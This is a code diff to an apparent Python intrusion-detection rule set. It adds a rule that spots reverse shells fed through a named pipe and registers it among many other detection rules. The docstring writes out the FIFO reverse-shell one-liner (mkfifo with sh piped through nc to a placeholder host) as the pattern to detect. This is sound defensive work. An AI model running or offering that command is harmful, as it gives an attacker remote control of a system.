@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import ipaddress
 import re
+from bisect import bisect_right
 from dataclasses import dataclass, replace
 from functools import lru_cache
 from itertools import islice
@@ -5144,6 +5145,77 @@ def shell_on_an_inherited_connection(view: LogView) -> list[StageEvidence]:
         )
         found.append(cited(view, rows(exchange), rows(commands), stage="Command and Control", confidence="moderate", rationale=reason, tactic="TA0011", techniques=("T1059.004", "T1095")))
     return found
+
+
+# the programs that make a named pipe (a FIFO) in the file system
+FIFO_MAKERS = frozenset({"mkfifo", "mknod"})
+# how soon after the relay wrote what it heard the shell reads it
+FIFO_RELAY_MINUTES = 1
+
+
+def shell_fed_through_a_fifo(view: LogView) -> list[StageEvidence]:
+    """A reverse shell through a named pipe (T1059.004 over T1095): a shell made a FIFO
+    (``FIFO_MAKERS``), and a process that both heard from and sent to an outside address
+    wrote into a file that a shell then read within ``FIFO_RELAY_MINUTES``: ``mkfifo f;
+    sh -i < f 2>&1 | nc HOST PORT > f`` (or openssl s_client), each command the relay
+    receives fed to the shell and its output sent back. Where the log names the FIFO
+    (mkfifo's own row), only that file counts: a script a download tool saved and a shell
+    read is a download, not a relay, and so is what a download tool (curl, wget) writes into
+    the pipe."""
+    desc = view.desc
+    starts = view.program_starts
+    makers = starts & view.desc_where("object_name", lambda n: n.casefold() in FIFO_MAKERS, starts)
+    makers &= view.desc_where("subject_name", lambda n: process_category(n) == "shell", makers)
+    if not makers.any():
+        return []
+    local = this_host_addresses(view)
+    flows = view.present & (desc["object_kind"] == "flow") & (desc["subject_name"] != "")
+    flows &= view.desc_where("object_name", lambda n: n not in PLACEHOLDERS and not _excluded_address(view, n, local), flows)
+    heard, sent = view.pairs(flows & (desc["event"] == "network_in")), view.pairs(flows & (desc["event"] == "network_out"))
+    talking = heard & sent  # (relay, address) pairs both ways
+    if not talking:
+        return []
+    # (a download tool fetches what the shell then reads: a script run, not a relay)
+    relays = {relay for relay, _ in talking if relay.casefold() not in TRANSFER_TOOLS}
+    named = view.values("object_name", view.present & view.desc_where("subject_name", lambda n: n.casefold() in FIFO_MAKERS, view.present) & (desc["object_kind"] == "file"))
+    writes = view.present & (desc["event"] == "file_write") & (desc["object_kind"] == "file") & view.desc_in("subject_name", relays)
+    if named:
+        writes &= view.desc_in("object_name", named)
+    if not writes.any():
+        return []
+    reads = view.present & (desc["event"] == "file_read") & view.desc_in("object_name", view.values("object_name", writes))
+    reads &= view.desc_where("subject_name", lambda n: process_category(n) == "shell", reads)
+    if not reads.any():
+        return []
+    write_rows, read_rows = view.rows_of(writes), view.rows_of(reads)
+    write_at: dict[str, list[int]] = {}
+    for code, minute in zip(view._codes[write_rows].tolist(), view.minutes[write_rows].tolist()):
+        write_at.setdefault(desc["object_name"][code], []).append(minute)
+    window = FIFO_RELAY_MINUTES * MINUTE_NS
+    for minutes in write_at.values():
+        minutes.sort()
+
+    def fed_by_a_write(name: str, minute: int) -> bool:  # the last write at or before it, by bisection
+        minutes = write_at[name]
+        at = bisect_right(minutes, minute)
+        return at > 0 and minute - minutes[at - 1] <= window
+
+    fed = np.array([fed_by_a_write(desc["object_name"][code], minute) for code, minute in zip(view._codes[read_rows].tolist(), view.minutes[read_rows].tolist())], dtype=bool)
+    if not fed.any():
+        return []
+    read_rows = read_rows[fed]
+    fifos = set(desc["object_name"][view._codes[read_rows]].tolist())
+    used = view.values("subject_name", writes & view.desc_in("object_name", fifos))
+    addresses = {address for relay, address in talking if relay in used}
+    shells = set(desc["subject_name"][view._codes[read_rows]].tolist())
+    exchange = flows & view.desc_in("subject_name", used) & view.desc_in("object_name", addresses)
+    reason = (
+        f"{_names(view.values('subject_name', makers))} made a named pipe ({_names(view.values('object_name', makers))}), and {_names(used)}, which heard from and sent to "
+        f"{_names(addresses)} (not internal), wrote what it heard into {_names(fifos)}, which {_names(shells)} read: a shell fed through a FIFO by a network "
+        "relay, a reverse shell whose commands and their output go over it."
+    )
+    rows = np.concatenate([view.rows_of(makers), view.rows_of(writes & view.desc_in("object_name", fifos)), read_rows, view.rows_of(exchange)])
+    return [cited(view, np.unique(rows), stage="Command and Control", confidence="moderate", rationale=reason, tactic="TA0011", techniques=("T1059.004", "T1095"))]
 
 
 def system_program_replaced(view: LogView) -> list[StageEvidence]:
@@ -10320,4 +10392,4 @@ def planted_com_server(view: LogView) -> list[StageEvidence]:
     return [cited(view, *rows, stage="Maintain Persistence", confidence=confidence, rationale=reason, tactic="TA0003", techniques=("T1546.015",))]
 
 
-RULES = (sweep_rule, command_and_control, scripted_credential_access, credential_harvest, planted_library_loaded, planted_system_library_loaded, planted_com_server, ingress_then_run, channel_to_the_delivering_server, session_client_forwarding, session_client_relays_a_remote_forward, install_runs_channel_holder, client_runs_unknown_program, client_drops_executable, client_archive_extracted_and_run, client_image_opened_and_run, client_launcher_opened, office_macro_via_wmi, wmi_subscription_fires, wmi_subscription_fires_on_a_timer, password_guessing_then_login, remote_desktop_session_survey, remote_desktop_through_a_tunnel, web_server_shell_discovery, web_server_reverse_shell, operator_commands_over_a_channel, downloaded_kernel_module_loaded, server_shell_runs_fetched_code, server_shell_survey, dropped_program_calls_home, server_shell_calls_back, web_shell_planted, server_page_planted, shell_on_an_inherited_connection, chain_process_converses_outside, system_program_replaced, server_shell_adds_account, service_writes_ssh_keys, net_command_changes_an_account, covering_tracks, file_search_feeds_collection, discovery, host_survey_by_reads, network_sniffing, lateral_movement, remote_task_target, remote_session_writes_program, channel_relays_to_site_hosts, own_image_copied_out, sudo_shell_escape, run_as_for_an_unknown_program, run_as_plants_a_triggered_program, run_as_starts_a_dropped_program, job_table_for_an_unknown_program, job_table_after_a_dropped_program, shell_copied_and_armed, cron_runs_hidden_program, cron_reads_planted_table, desktop_entry_for_hidden_program, job_table_for_hidden_program, boot_service_for_hidden_program, cron_job_pipes_remote_code_into_a_shell, init_script_planted_by_unknown_program, staged_data_shredded, logs_edited_or_times_reset, persistence_written_then_touched, event_logs_cleared_by_the_service, exploit_gives_root_shell, kernel_symbols_then_shell, hijacked_auto_elevator, environment_hijacked_task, credential_hives_saved, run_as_binary_tampered_then_shell, mapped_account_database_then_root_login, injected_system_process, token_taken_from_system_process, local_server_then_shell, service_shell_feeds_a_pipe, one_shot_shell_service_then_token, planted_trigger_runs_program, service_runs_planted_program, service_registered_for_written_program, program_installs_itself_as_service, autostart_launches_attack_program, startup_shortcut_runs_planted_program, exfiltration, pipeline_exfiltration, install_script_steals_secrets, keystrokes_captured)
+RULES = (sweep_rule, command_and_control, scripted_credential_access, credential_harvest, planted_library_loaded, planted_system_library_loaded, planted_com_server, ingress_then_run, channel_to_the_delivering_server, session_client_forwarding, session_client_relays_a_remote_forward, install_runs_channel_holder, client_runs_unknown_program, client_drops_executable, client_archive_extracted_and_run, client_image_opened_and_run, client_launcher_opened, office_macro_via_wmi, wmi_subscription_fires, wmi_subscription_fires_on_a_timer, password_guessing_then_login, remote_desktop_session_survey, remote_desktop_through_a_tunnel, web_server_shell_discovery, web_server_reverse_shell, operator_commands_over_a_channel, downloaded_kernel_module_loaded, server_shell_runs_fetched_code, server_shell_survey, dropped_program_calls_home, server_shell_calls_back, web_shell_planted, server_page_planted, shell_on_an_inherited_connection, shell_fed_through_a_fifo, chain_process_converses_outside, system_program_replaced, server_shell_adds_account, service_writes_ssh_keys, net_command_changes_an_account, covering_tracks, file_search_feeds_collection, discovery, host_survey_by_reads, network_sniffing, lateral_movement, remote_task_target, remote_session_writes_program, channel_relays_to_site_hosts, own_image_copied_out, sudo_shell_escape, run_as_for_an_unknown_program, run_as_plants_a_triggered_program, run_as_starts_a_dropped_program, job_table_for_an_unknown_program, job_table_after_a_dropped_program, shell_copied_and_armed, cron_runs_hidden_program, cron_reads_planted_table, desktop_entry_for_hidden_program, job_table_for_hidden_program, boot_service_for_hidden_program, cron_job_pipes_remote_code_into_a_shell, init_script_planted_by_unknown_program, staged_data_shredded, logs_edited_or_times_reset, persistence_written_then_touched, event_logs_cleared_by_the_service, exploit_gives_root_shell, kernel_symbols_then_shell, hijacked_auto_elevator, environment_hijacked_task, credential_hives_saved, run_as_binary_tampered_then_shell, mapped_account_database_then_root_login, injected_system_process, token_taken_from_system_process, local_server_then_shell, service_shell_feeds_a_pipe, one_shot_shell_service_then_token, planted_trigger_runs_program, service_runs_planted_program, service_registered_for_written_program, program_installs_itself_as_service, autostart_launches_attack_program, startup_shortcut_runs_planted_program, exfiltration, pipeline_exfiltration, install_script_steals_secrets, keystrokes_captured)
